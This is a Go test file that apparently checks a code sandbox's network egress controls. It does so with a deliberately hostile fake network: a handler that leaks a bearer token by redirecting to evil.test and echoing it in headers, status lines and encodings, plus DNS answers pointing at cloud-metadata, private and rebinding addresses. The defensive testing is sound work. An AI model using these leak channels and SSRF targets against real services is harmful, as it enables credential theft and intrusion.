//go:build real && linux

package subprocess_test

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"math/rand/v2"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/toolcell/toolcell/codeinterp"
	"github.com/toolcell/toolcell/egress"
	"github.com/toolcell/toolcell/providers/subprocess"
)

const (
	attackSecret = "sk-live-5e1f0c9a77b3d284"
	goodAddress  = "93.184.216.34"
)

// A hostile is a network with canaries: what it has seen of programs that are not to
// reach it.
type hostile struct {
	t     *testing.T
	opts  egress.Options
	facts map[string]any // for the program

	mu      sync.Mutex
	alarms  []string
	events  []egress.Event
	rebinds int
}

func (h *hostile) alarm(format string, args ...any) {
	h.mu.Lock()
	h.alarms = append(h.alarms, fmt.Sprintf(format, args...))
	h.mu.Unlock()
}

// answer is the servers' handler.
func (h *hostile) answer(w http.ResponseWriter, r *http.Request) {
	host := strings.Split(r.Host, ":")[0]
	if r.Host != "" && !strings.HasSuffix(host, "example.com") && host != "plain.test" && host != "both.test" && host != "rebind.test" {
		h.alarm("a request for %s %s", r.Host, r.RequestURI)
	}
	auth := r.Header.Get("Authorization")
	if (auth != "") != (host == "example.com" && strings.HasPrefix(r.URL.Path, "/v1/") && r.TLS != nil) {
		h.alarm("%s %s was sent %q", r.Host, r.RequestURI, auth)
	}
	token := strings.TrimPrefix(auth, "Bearer ")
	switch r.URL.Path {
	case "/v1/redirect":
		http.Redirect(w, r, "https://evil.test/"+token, http.StatusFound)
	case "/v1/header":
		w.Header().Set("X-Echo", auth)
		w.Header().Set("X-"+token, "1")
	case "/v1/chunks":
		for i := range auth {
			fmt.Fprint(w, auth[i:i+1])
			w.(http.Flusher).Flush()
		}
	case "/v1/trailer":
		w.Header().Set("Trailer", "X-Echo, "+token)
		fmt.Fprint(w, "x")
		w.Header().Set("X-Echo", auth)
		w.Header().Set(token, auth)
	case "/v1/base64":
		fmt.Fprint(w, base64.StdEncoding.EncodeToString([]byte(auth)))
	case "/v1/status":
		h.hijack(w, "HTTP/1.1 200 "+token+"\r\nContent-Length: 0\r\n\r\n")
	case "/v1/encoding":
		w.Header().Set("Content-Encoding", token)
	case "/v1/malformed":
		h.hijack(w, token+" "+auth+"\r\n\r\n")
	case "/v1/early":
		w.Header().Set("Link", auth)
		w.WriteHeader(http.StatusEarlyHints)
	case "/v1/socket":
		h.hijack(w, "HTTP/1.1 101 X\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nX: "+token+"\r\n\r\n"+token)
	case "/upgrade":
		c, rw, err := http.NewResponseController(w).Hijack()
		if err == nil {
			defer c.Close()
			fmt.Fprint(c, "HTTP/1.1 101 X\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n")
			_, _ = io.Copy(c, rw)
		}
	default:
		fmt.Fprintf(w, "HELLO %s %s auth=%s", r.Host, r.URL.Path, auth)
	}
}

func (h *hostile) hijack(w http.ResponseWriter, all string) {
	c, _, err := http.NewResponseController(w).Hijack()
	if err != nil {
		return
	}
	defer c.Close()
	_, _ = io.WriteString(c, all)
}

// canaries listens where programs must not come.
func (h *hostile) canaries() {
	serve := func(l net.Listener, err error) net.Listener {
		if err != nil {
			h.t.Fatal(err)
		}
		h.t.Cleanup(func() { l.Close() })
		go func() {
			for {
				c, err := l.Accept()
				if err != nil {
					return
				}
				h.alarm("a connection to %s", l.Addr())
				fmt.Fprint(c, "CANARY")
				c.Close()
			}
		}()
		return l
	}
	port := freePort(h.t)
	serve(net.Listen("tcp", fmt.Sprint(":", port)))
	dir := h.t.TempDir()
	if err := errors.Join(os.Chmod(dir, 0o755), os.Chmod(filepath.Dir(dir), 0o755)); err != nil {
		h.t.Fatal(err)
	}
	path, abstract := filepath.Join(dir, "canary"), fmt.Sprintf("toolcell-canary-%d", port)
	serve(net.Listen("unix", path))
	serve(net.Listen("unix", "@"+abstract))
	udp, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		h.t.Fatal(err)
	}
	h.t.Cleanup(func() { udp.Close() })
	go func() {
		for {
			if _, _, err := udp.ReadFrom(make([]byte, 1)); err != nil {
				return
			}
			h.alarm("a datagram")
		}
	}()
	listen := &net.TCPAddr{IP: net.IPv4(127, 0, 0, 1), Port: freePort(h.t)}
	go func() { // comes in where a program listens
		for ctx := h.t.Context(); ctx.Err() == nil; time.Sleep(20 * time.Millisecond) {
			if c, err := net.DialTCP("tcp", nil, listen); err == nil {
				h.alarm("a program listens")
				c.Close()
			}
		}
	}()
	h.facts = map[string]any{"canary": port, "udp": udp.LocalAddr().(*net.UDPAddr).Port, "unix": path, "abstract": abstract,
		"listen": listen.Port, "pid": os.Getpid(), "uid": os.Getuid(), "own": ownAddress()}
}

// freePort returns a port that nothing listens on, and none of those that the system gives
// to whoever wants any, as tests beside this one do.
func freePort(t *testing.T) int {
	const first, last = 4_000, 10_000
	for range 100 {
		port := first + rand.IntN(last-first)
		if l, err := net.Listen("tcp", fmt.Sprint(":", port)); err == nil {
			l.Close()
			return port
		}
	}
	t.Fatal("no port is free")
	return 0
}

// ownAddress returns an address of this machine that is not loopback, where there is one.
func ownAddress() string {
	list, _ := net.InterfaceAddrs()
	for _, a := range list {
		if p, err := netip.ParsePrefix(a.String()); err == nil && p.Addr().Is4() && !p.Addr().IsLoopback() {
			return p.Addr().String()
		}
	}
	return "127.0.0.2"
}

func (h *hostile) lookup(_ context.Context, name string) ([]netip.Addr, error) {
	short, _, _ := strings.Cut(name, ".")
	all := map[string]string{"meta": "169.254.169.254", "priv": "10.0.0.1", "six": "::1", "mapped": "::ffff:127.0.0.1", "nat64": "64:ff9b::7f00:1",
		"cgn": "100.64.0.1", "zero": "0.0.0.0", "loop": "127.0.0.1", "own": ownAddress(), "both": "169.254.169.254 " + goodAddress}[short]
	switch {
	case strings.HasPrefix(name, "evil") || strings.HasSuffix(name, "evil.test"):
		h.alarm("looked up %s", name)
	case short == "rebind":
		h.mu.Lock()
		h.rebinds++
		all = []string{goodAddress, "127.0.0.1"}[h.rebinds%2]
		h.mu.Unlock()
	case all == "":
		all = goodAddress
	}
	var list []netip.Addr
	for a := range strings.FieldsSeq(all) {
		list = append(list, netip.MustParseAddr(a))
	}
	return list, nil
}

func newHostile(t *testing.T) *hostile {
	h := &hostile{t: t}
	plain, secure := httptest.NewServer(http.HandlerFunc(h.answer)), httptest.NewTLSServer(http.HandlerFunc(h.answer))
	t.Cleanup(plain.Close)
	t.Cleanup(secure.Close)
	h.canaries()
	private := []string{"meta.test", "priv.test", "six.test", "mapped.test", "nat64.test", "cgn.test", "zero.test", "loop.test", "own.test", "both.test", "rebind.test"}
	h.opts = egress.Options{
		Policy: egress.Policy{Mode: egress.Hosts, Limits: egress.Limits{Connections: 200}, Rules: []egress.Rule{
			{Hosts: append(private, "plain.test", "*.wild.test", "tunnel.example.com")},
			{Hosts: []string{"example.com"}, Methods: []string{"GET"}, Paths: []string{"/v1/*"}, Credential: true},
			{Hosts: []string{"www.example.com"}, Inspect: true},
		}},
		Secrets: egress.Static{"example.com": egress.Bearer("key", attackSecret)},
		Lookup:  h.lookup, RootCAs: secure.Client().Transport.(*http.Transport).TLSClientConfig.RootCAs,
		OnEvent: func(e egress.Event) {
			h.mu.Lock()
			h.events = append(h.events, e)
			h.mu.Unlock()
		},
		Dial: func(_ context.Context, a netip.AddrPort) (net.Conn, error) {
			switch {
			case a.Addr().String() != goodAddress:
				h.alarm("dialled %s", a)
			case a.Port() == 443:
				return net.Dial("tcp", secure.Listener.Addr().String())
			case a.Port() == 80:
				return net.Dial("tcp", plain.Listener.Addr().String())
			}
			return nil, errors.New("no such server")
		},
	}
	return h
}

// Nothing that a program does takes it past its policy, or to the credential; the host
// survives it, and keeps nothing of it. docs/network.md, RunOptions.Network.
func TestNetworkAttacks(t *testing.T) {
	program, err := os.ReadFile("testdata/attacks.py")
	if err != nil {
		t.Fatal(err)
	}
	for _, mode := range []subprocess.Mode{subprocess.Landlock, subprocess.Bwrap} {
		t.Run(fmt.Sprint(mode), func(t *testing.T) {
			h := newHostile(t)
			before, goroutines := descriptors(t), runtime.NumGoroutine()
			ci, err := subprocess.NewStateful(&subprocess.Options{Egress: &h.opts, Sandbox: subprocess.Sandbox{Mode: mode}, Languages: []subprocess.Language{subprocess.Python()}})
			if err != nil {
				t.Fatal(err)
			}
			h.facts["mode"] = strings.ToLower(fmt.Sprint(mode))
			facts, _ := json.Marshal(h.facts)
			code := fmt.Sprintf("import json\nL = json.loads(%q)\n%s", facts, program)
			res, err := ci.RunCode(t.Context(), "python", code, nil)
			ways := 0
			for line := range strings.Lines(res.Stdout()) {
				ways++
				if !strings.HasSuffix(line, " held\n") && !strings.HasPrefix(line, "END ") {
					t.Error(line)
				}
			}
			if err != nil || ways < 200 || !strings.Contains(res.Stdout(), fmt.Sprintf("END %d\n", ways-1)) {
				t.Errorf("%d ways: %v %s", ways, err, res.Stderr())
			}
			t.Logf("%d ways", ways-1)
			h.narrow(ci)
			if err := ci.Close(); err != nil {
				t.Error(err)
			}
			h.mu.Lock()
			defer h.mu.Unlock()
			for _, a := range h.alarms {
				t.Error(a)
			}
			for where, text := range map[string]string{"result": fmt.Sprintf("%+v", res), "events": fmt.Sprintf("%+v", h.events)} {
				if strings.Contains(text, attackSecret[3:]) {
					t.Errorf("the credential is in the %s", where)
				}
			}
			if i := slices.IndexFunc(h.events, func(e egress.Event) bool { return e.Allowed && strings.Contains(e.Host, "evil") }); i >= 0 {
				t.Errorf("event %+v", h.events[i])
			}
			for end := time.Now().Add(time.Minute); (descriptors(t) > before+20 || runtime.NumGoroutine() > goroutines+50) && time.Now().Before(end); {
				time.Sleep(20 * time.Millisecond)
			}
			if d, g := descriptors(t), runtime.NumGoroutine(); d > before+20 || g > goroutines+50 {
				t.Errorf("%d descriptors before, %d after; %d goroutines before, %d after", before, d, goroutines, g)
			}
		})
	}
}

// narrow leaves a thread, a child and a connection from a run with the whole policy in
// a run with none, and sees that they reach nothing, during it and after it.
func (h *hostile) narrow(ci codeinterp.StatefulInterpreter) {
	ctx := h.t.Context()
	id, dir := openFiles(h.t, ci, "python", nil)
	off := &codeinterp.RunOptions{Network: &codeinterp.NetworkLimit{Off: true}}
	res, err := ci.RunInContext(ctx, id, `
import socket, threading, time, os
def px(): s = socket.socket(); s.settimeout(3); s.connect(('127.0.0.1', 3128)); return s
GET = b'GET http://plain.test/ HTTP/1.1\r\nHost: plain.test\r\n\r\n'
keep, ws, late, tries = px(), px(), [], open('tries', 'wb', 0)
def until(s, what):
    b = b''
    while what not in b and (d := s.recv(4096)): b += d
    return what in b
keep.sendall(GET); print(until(keep, b'auth='))
ws.sendall(b'GET http://plain.test/upgrade HTTP/1.1\r\nHost: plain.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n'); print(until(ws, b'\r\n\r\n'))`, nil)
	if err != nil || res.Stdout() != "True\nTrue\n" {
		h.t.Errorf("%v %+v", err, res)
	}
	res, err = ci.RunInContext(ctx, id, `
def hello(s):
    try: s.sendall(GET); return until(s, b'HELLO')
    except OSError: return False
def later():
    while True: late.append(hello(px())); tries.write(b'.'); time.sleep(0.01)
threading.Thread(target=later, daemon=True).start()
print(hello(keep), hello(px()))
try: ws.sendall(b'z'); print(ws.recv(1))
except OSError: print(b'')`, off)
	if err != nil || res.Stdout() != "False False\nb''\n" {
		h.t.Errorf("narrow: %v %+v", err, res)
	}
	made := func() int { b, _ := fs.ReadFile(dir, "tries"); return len(b) }
	for before, end := made(), time.Now().Add(time.Minute); made() < before+3 && time.Now().Before(end); {
		time.Sleep(10 * time.Millisecond)
	}
	res, err = ci.RunInContext(ctx, id, "print(len(late) > 2, any(late))", off)
	if err != nil || res.Stdout() != "True False\n" {
		h.t.Errorf("after it: %v %+v", err, res)
	}
}

func descriptors(t *testing.T) int {
	list, err := os.ReadDir("/proc/self/fd")
	if err != nil {
		t.Fatal(err)
	}
	return len(list)
}
